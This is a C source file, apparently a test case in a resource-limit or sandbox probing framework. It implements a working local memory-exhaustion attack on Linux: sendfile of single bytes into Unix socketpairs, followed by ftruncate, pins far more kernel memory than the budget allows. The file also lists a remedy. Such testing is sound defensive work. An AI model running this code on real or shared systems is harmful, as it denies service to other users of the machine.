// SPDX-License-Identifier: MIT
/*
 * pinned-by-sockets.c - a byte in the queue that holds a page.
 *
 * Goal:  more memory than the budget.
 * Means: sendfile(2) of one byte of a file into a pair of stream sockets copies nothing, since
 *        Linux 6.5: the queue is charged for a byte and holds the page. ftruncate(2) takes the page
 *        out of the file, so that the disk is empty again, and the next one is written. A pair holds
 *        2 MiB so, where its limits say 400 KiB.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <unistd.h>

enum { CHILDREN = 8, PAIRS = 22, PAGES = 370 * 256 / CHILDREN };

static char page[4096];

static _Noreturn void fill(int fd)
{
	int n = 0, s[2];

	for (int i = 0; i < PAIRS; i++) {
		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, s))
			break;
		for (int end = 0; end < 2; end++)
			while (n < PAGES) {
				off_t at = 0;
				ssize_t k;

				if (pwrite(fd, page, sizeof(page), 0) != sizeof(page))
					break;
				k = sendfile(s[end], fd, &at, 1);
				if (ftruncate(fd, 0) || k != 1)
					break;
				n++;
			}
	}
	sleep(5);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	const char *dir = getenv("TMPDIR");
	char name[16];

	if (chdir(dir ? dir : "/tmp"))
		return failed("chdir");
	memset(page, 'x', sizeof(page));
	attempting(b);
	for (int i = 0; i < CHILDREN; i++) {
		pid_t child;
		int fd;

		snprintf(name, sizeof(name), "page-%d", i);
		fd = open(name, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
		if (fd < 0)
			return denied("open");
		child = fork();
		if (child < 0)
			return denied("fork");
		if (child == 0)
			fill(fd);
		close(fd);
	}
	sleep(3);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget",
	.means = "sendfile(2) of one byte of each page into socketpairs, then ftruncate(2)",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "no sendfile(2) into sockets, or count 2 MiB for each pair; a memory cgroup",
	.refs = (const char *const[]){ "sendfile(2)", "unix(7)", NULL },
	.run = run,
};
